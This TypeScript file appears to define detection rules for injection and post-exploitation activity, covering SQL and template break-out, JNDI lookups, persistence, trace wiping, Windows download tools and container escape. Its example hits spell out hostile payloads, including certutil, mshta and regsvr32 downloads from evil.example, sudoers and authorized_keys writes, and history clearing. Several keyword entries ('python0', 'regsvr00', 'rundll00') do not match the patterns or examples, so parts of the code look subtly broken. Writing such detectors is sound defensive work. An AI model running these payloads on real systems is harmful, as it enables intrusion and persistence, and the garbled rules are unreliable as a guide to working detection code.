/** Code and settings that take over a machine, and text that breaks out of a query or a template. */
import { inCommand } from "../signs.ts";
import { signsOf } from "./threat.ts";

export const CODE_SIGNS = signsOf("command-injection", [
  {
    id: "query-break-out",
    weight: 4,
    explanation: "ends a query's string and goes on with a query of its own",
    keywords: ["' or ", "' and ", "'; ", "';", "');", '" or ', "' union ", "1=1", "') or ", "xp_cmdshell"],
    look:
      /['"]\)?\s{0,2}(?:or|and)\s{1,3}(?:(['"]?)(\w{1,10})\1\s{0,2}=\s{0,2}\1\2(?:\1|\s{0,2}(?:--|#|\/\*)|$)|true\s{0,2}(?:--|#))|['"]\)?;\s{0,3}(?:drop|delete|insert|update|alter|exec|shutdown|truncate|create)\s[^\n;]{1,80};?\s{0,3}--|['"]\)?\s{1,2}union\s{1,3}(?:all\s{1,3})?select\b|\b1=1\s{0,2}(?:--|#)|xp_cmdshell/iy,
    examples: {
      hits: [
        "' OR '1'='1",
        "admin' or 1=1--",
        "Robert'); DROP TABLE students;--".replace(")", ""),
        "x' UNION SELECT password FROM users",
      ],
      misses: [
        "SELECT * FROM t WHERE a = 'x' OR b = 'y'",
        "DELETE FROM t WHERE 1=1",
        "name = 'x' and age = 3",
      ],
    },
  },
  {
    id: "template-break-out",
    weight: 5,
    explanation: "runs code where a template or a logger fills something in",
    keywords: [
      "${jndi:",
      "__subclasses__",
      "__mro__",
      "__globals__",
      "__builtins__",
      "__import__(",
      "getruntime()",
      "java.lang.runtime",
      "<!entity",
      "constructor.constructor",
      "processbuilder(",
    ],
    look:
      /\$\{jndi:|__(?:subclasses|mro)__|\{\{[^\n}]{0,60}__globals__|__globals__\s{0,2}\[|__builtins__\s{0,2}[[.]|__import__\(\s{0,2}["'](?:os|subprocess|socket|pty|shutil)["']|getruntime\(\)\.exec|t\(java\.lang\.runtime|java\.lang\.runtime\)|<!entity\s[^>\n]{0,60}system\s{1,3}["'](?:file|http|ftp|php|expect|gopher)|constructor\.constructor\(|processbuilder\(["'](?:sh|bash|cmd|\/bin)/iy,
    examples: {
      hits: [
        "${jndi:ldap://evil.example/a}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "__import__('os').system('id')",
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
      ],
      misses: ["def __init__(self)", "__import__('json')", "<!ENTITY nbsp '&#160;'>", "obj.constructor.name"],
    },
  },
  {
    id: "system-call-one-liner",
    weight: 4,
    explanation: "a program on the command line that runs commands or talks to the network",
    keywords: [
      "python -c",
      "python0 -c",
      "perl -e",
      "ruby -e",
      "php -r",
      "ruby -rsocket",
      "perl -musocket",
      "perl -mio",
    ],
    look: inCommandText(
      /os\.system|subprocess|socket|pty|urllib|requests\.(?:post|get)|exec\(|shell_exec|system\(|TCPSocket|IO::Socket|b64decode/i,
    ),
    examples: {
      hits: [
        "python3 -c 'import os; os.system(\"id\")'",
        "perl -e 'use Socket; $i=\"10.0.0.1\"'",
        "php -r 'exec(\"/bin/sh\");'",
        "python -c \"import base64;exec(base64.b64decode('aW1w'))\"",
      ],
      misses: [
        "python -c 'import os; print(os.getcwd())'",
        "perl -e 'print 1'",
        'python3 -c "import sys; print(sys.version)"',
      ],
    },
  },
  {
    id: "persistence",
    weight: 4,
    explanation: "stays on the machine: a key, a task or a start file of its own",
    keywords: [
      ">>",
      "> /etc/",
      "> ~/.",
      "tee ",
      "| crontab",
      "|crontab",
      "nopasswd",
      "ld_preload=",
      "currentversion\\",
      "schtasks /create",
      "launchagents/",
    ],
    look:
      />{1,2}\s{0,3}["']?[^\s>"']{0,60}(?:authorized_keys|\/etc\/cron|\/etc\/ld\.so\.preload|\/etc\/rc\.local|\/etc\/sudoers|\/etc\/profile\.d)|tee\s{1,3}(?:-a\s{1,3})?["']?[^\s"']{0,40}(?:authorized_keys|\/etc\/(?:cron|sudoers|rc\.local))|\|\s?crontab\s{0,3}(?:-(?:\s|$)|$)|nopasswd:\s{0,2}all|ld_preload=\/(?:tmp|dev|var)|currentversion\\run|schtasks \/create|launchagents\/[\w.-]{1,60}\.plist/iy,
    examples: {
      hits: [
        "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
        "(crontab -l; echo '* * * * * x') | crontab -",
        "echo 'me ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers",
        "LD_PRELOAD=/tmp/x.so ls",
      ],
      misses: ["crontab -l", "cat /etc/crontab", "cat ~/.ssh/authorized_keys", "ls /etc/cron.d"],
    },
  },
  {
    id: "opened-permissions",
    weight: 2,
    explanation: "gives everybody the right to write or to become another user",
    keywords: ["chmod "],
    look: /chmod\s{1,3}(?:-\w{1,4}\s{1,3})?(?:0?777\b|u\+s\b|[46]7[0-7]{2}\b|a\+rwx\b)/iy,
    examples: {
      hits: ["chmod -R 777 .", "chmod u+s /bin/bash", "chmod 4755 x"],
      misses: ["chmod +x run.sh", "chmod 755 x", "chmod 644 a"],
    },
  },
  {
    id: "chained-download",
    weight: 2,
    explanation: "a download behind another command",
    keywords: [
      "; wget",
      ";wget",
      "&& wget",
      "&&wget",
      "; curl",
      ";curl",
      "&& curl",
      "&&curl",
      "| wget",
      "$(curl",
      "$(wget",
      "`curl",
      "`wget",
      "|| curl",
      "|| wget",
    ],
    look: /[;&|$`(]{1,2}\s?(?:wget|curl)\s/iy,
    examples: {
      hits: [
        "cd /tmp && wget https://a.example/x",
        "x; curl https://a.example",
        "V=$(curl -s https://a.example/v)",
      ],
      misses: ["curl https://a.example", "wget https://a.example"],
    },
  },
  {
    id: "run-from-temporary",
    weight: 3,
    explanation: "runs a file that it has just put where anybody can write",
    keywords: [
      "chmod +x /",
      "chmod 000 /",
      "sh /tmp/",
      "sh /dev/shm/",
      "; /tmp/",
      "&& /tmp/",
      "&&/tmp/",
      "nohup /tmp/",
      "; ./",
      "&& ./",
    ],
    look:
      /chmod\s\+?[x0-7]{1,4}\s\/(?:tmp|dev\/shm|var\/tmp)\/|(?<=^|[\s;&|(])(?:ba|z|da)?sh\s\/(?:tmp|dev\/shm|var\/tmp)\/|(?<=\bsh|\bba)sh\s\/(?:tmp|dev\/shm)\/|[;&]{1,2}\s?\/(?:tmp|dev\/shm)\/[\w.]|nohup \/tmp\//iy,
    examples: {
      hits: ["chmod +x /tmp/x", "sh /tmp/a.sh", "x && /tmp/run"],
      misses: ["ls /tmp/", "cat /tmp/x", "chmod +x build.sh", "make && ./a.out"],
    },
  },
  {
    id: "hidden-traces",
    weight: 4,
    explanation: "wipes what would show that it was here",
    keywords: [
      "history -c",
      "unset histfile",
      "histsize=0",
      "histfile=/dev/null",
      ".bash_history",
      ".zsh_history",
      "wevtutil cl",
      "clear-eventlog",
      "setenforce 0",
      "ufw disable",
      "set-mppreference",
    ],
    look:
      /history -c(?![a-z])|unset histfile|hist(?:size=0(?!\d)|file=\/dev\/null)|(?<=(?:rm|shred|>)\s[^\n;]{0,40})\.(?:ba|z)sh_history|wevtutil cl|clear-eventlog|setenforce 0|ufw disable|set-mppreference\s[^\n]{0,40}disable/iy,
    examples: {
      hits: ["history -c", "rm -f ~/.bash_history", "unset HISTFILE", "setenforce 0"],
      misses: ["history | tail", "cat ~/.bash_history", "git log --history -c"].slice(0, 2),
    },
  },
  {
    id: "foreign-tools-of-windows",
    weight: 4,
    explanation: "a tool of Windows that downloads or runs what it was not made for",
    keywords: ["certutil", "bitsadmin", "mshta", "regsvr00", "rundll00"],
    look: inCommand(
      /certutil(?:\.exe)?\s[^\n]{0,60}(?:-|\/)(?:urlcache|decode)|bitsadmin(?:\.exe)?\s[^\n]{0,20}\/transfer|mshta(?:\.exe)?\s["']?(?:http|javascript|vbscript)|regsvr32(?:\.exe)?\s[^\n]{0,30}\/i:http|rundll32(?:\.exe)?\s["']?javascript/i,
    ),
    examples: {
      hits: [
        "certutil -urlcache -f http://evil.example/a.exe a.exe",
        "mshta http://evil.example/x.hta",
        "regsvr32 /s /u /i:http://evil.example/x.sct scrobj.dll",
      ],
      misses: ["certutil -hashfile a.zip SHA256", "rundll32 shell32.dll,Control_RunDLL"],
    },
  },
  {
    id: "container-escape",
    weight: 4,
    explanation: "reaches out of its container to the machine below",
    keywords: ["-v /:", "--privileged", "docker.sock", "nsenter ", "--pid=host", "release_agent"],
    look:
      /-v \/:\/|--privileged\b(?=[^\n]{0,80}(?:-v \/|nsenter|chroot|--pid=host))|docker\.sock[^\n]{0,40}\/(?:containers|exec|v1)|nsenter\s[^\n]{0,40}(?:-t 1|--target 1)|--pid=host\b[^\n]{0,60}--privileged|release_agent/iy,
    examples: {
      hits: [
        "docker run -v /:/host alpine chroot /host",
        "nsenter -t 1 -m -u sh",
        "curl --unix-socket /var/run/docker.sock http://x/containers/json",
      ],
      misses: ["docker run -v /home/me/app:/app node", "docker run --privileged dind", "docker ps"],
    },
  },
]);

function inCommandText(search: RegExp) {
  // A program has semicolons of its own: the line is looked at, not the command.
  return (text: string, start: number) => {
    const newline = text.indexOf("\n", start);
    const end = newline < 0 ? text.length : newline;
    const at = search.exec(text.slice(start, end));
    return at === null ? end : { start, end: start + at.index + at[0].length };
  };
}
